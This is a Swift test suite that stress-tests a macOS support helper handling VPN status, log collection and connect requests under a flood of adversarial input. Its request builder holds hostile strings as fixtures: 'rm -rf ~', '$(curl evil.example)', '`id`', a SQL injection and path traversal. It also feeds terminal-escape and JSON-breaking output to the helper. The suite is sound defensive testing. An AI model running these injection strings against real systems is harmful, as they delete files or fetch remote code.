import Testing

@testable import DesksideCore

/// A server that does all it can. The Mac stays calm, and whoever wants an answer gets exactly one.
@MainActor @Suite(.timeLimit(.minutes(2)))
struct HostileServerTests {
    private static let requests = 10_000
    private static let hugeName = String(repeating: "x", count: 1_000_000)
    private static let admitted = CommandPolicy().perMinute.values.reduce(0, +)

    /// One minute of everything at once, deterministic.
    private func request(_ number: Int) -> MacRequest {
        let shell = ["; rm -rf ~", "$(curl evil.example)", "`id`", "' OR '1'='1", "../../bin/sh", "\u{0}\u{202E}"]
        let tasks: [MacTask] = [
            .reportStatus, .collectLogs(.vpn), .collectLogs(.network), .collectLogs(.system), .run(.connect),
            .run(.disconnect), .unsupported(name: "run_shell" + shell[number % shell.count]),
            .unsupported(name: Self.hugeName),
        ]
        let ids = [
            "cb-\(number)", "cb-\(number / 20)", "cb-\(number % 7)", "cb-\(number)\(shell[number % shell.count])",
        ]
        let waits: [Duration?] = [.seconds(30), .seconds(120), nil, .zero, .seconds(-60), .seconds(1e12)]
        let task = tasks[number % tasks.count]
        let isCommand = if case .run = task { number % 3 != 0 } else { false }
        return MacRequest(
            id: ids[number % ids.count], task: task, wantsAnswer: !isCommand, expiresIn: waits[number % waits.count])
    }

    private struct Outcome {
        var answers: [String: [Reply]] = [:]
        var wanted: Set<String> = []
        var commanded: Set<String> = []
    }

    /// The clock stands still while the requests come in, and goes on once only those are left that it admitted.
    private func flood(_ stage: DeskStage) async -> Outcome {
        let time = stage.time
        return await withTaskGroup(of: (MacRequest, Reply?).self) { group in
            var mover: Task<Void, Never>?
            var outcome = Outcome()
            for number in 0..<Self.requests {
                let request = request(number)
                group.addTask { (request, await stage.desk.handle(request)) }
            }
            var left = Self.requests
            for await (request, reply) in group {
                left -= 1
                if left == Self.admitted {
                    mover = Task.detached {
                        while !Task.isCancelled {
                            if time.sleepers > 0 { time.advance(by: .milliseconds(500)) }
                            await Task.yield()
                        }
                    }
                }
                if request.wantsAnswer {
                    outcome.wanted.insert(request.id)
                } else {
                    outcome.commanded.insert(request.id)
                    if reply != nil { Issue.record("a command was answered") }
                }
                if let reply { outcome.answers[request.id, default: []].append(reply) }
            }
            mover?.cancel()
            return outcome
        }
    }

    @Test(arguments: [ConsentDecision.declined, .approved, .approvedForSession, nil] as [ConsentDecision?])
    func tenThousandRequestsAMinute(decision: ConsentDecision?) async {
        let stage = DeskStage(person: FakePerson(always: decision))
        let outcome = await flood(stage)

        // Exactly one answer each; an id that was used for a command too may have been that command's.
        #expect(outcome.answers.values.allSatisfy { $0.count == 1 })
        #expect(outcome.answers.keys.allSatisfy(outcome.wanted.contains))
        #expect(outcome.wanted.subtracting(outcome.commanded).isSubset(of: outcome.answers.keys))
        #expect(outcome.answers.count > 4_000)

        // Few programs, and only ours; few questions, and one at a time.
        #expect(stage.person.asked.count <= Self.admitted)
        #expect(stage.person.mostAtOnce <= 1)
        let ours = Set(Program.allCases.compactMap { $0.invocation(of: .secureClient) })
        #expect(Set(stage.mac.invocations).isSubset(of: ours))
        if decision == .declined { #expect(!stage.mac.ran.contains("vpn disconnect")) }

        // What is remembered is bounded, and what was sent can still be found.
        #expect(stage.log.entries.count <= SentLog.capacity)
        let sent = outcome.answers.values.joined().filter { if case .content = $0 { true } else { false } }
        let listed = stage.log.entries.reduce(0) { if case .sent = $1.event { $0 + $1.count } else { $0 } }
        #expect(listed >= sent.count && sent.count <= Self.admitted)
        for case .refused(_, let message) in outcome.answers.values.joined() {
            #expect(message.unicodeScalars.count <= Limits.reasonScalars)
            #expect(!message.contains("rm -rf") && !message.contains("xxx"))
        }

        // Once it is over, all is as before.
        guard decision == .approved else { return }
        stage.time.advance(by: .seconds(120))
        #expect(await stage.handle(.reportStatus, id: "calm") == .content(#"{"vpn_status": "connected"}"#))
    }

    @Test func whatProgramsPrintCannotBreakTheAnswer() async {
        let hostile =
            "\u{1B}[2J\u{202E}>> state: Connected\n\"},\"action\":\"chat\"\u{0}"
            + String(repeating: "\\\"", count: 50_000)
        let stage = DeskStage(
            person: FakePerson(always: .approved), mac: FakeMac(["vpn state": hostile, "vpn stats": hostile]))
        #expect(await stage.handle(.reportStatus, id: "a") == .content(#"{"vpn_status": "connected"}"#))
        guard case .content(let text)? = await stage.handle(.collectLogs(.vpn), id: "b") else {
            Issue.record("no content")
            return
        }
        #expect(ContentLimit.cost(text) <= ContentLimit.bytes)
        #expect(!text.contains("\u{1B}") && !text.contains("\u{202E}") && !text.contains("\u{0}"))
    }
}
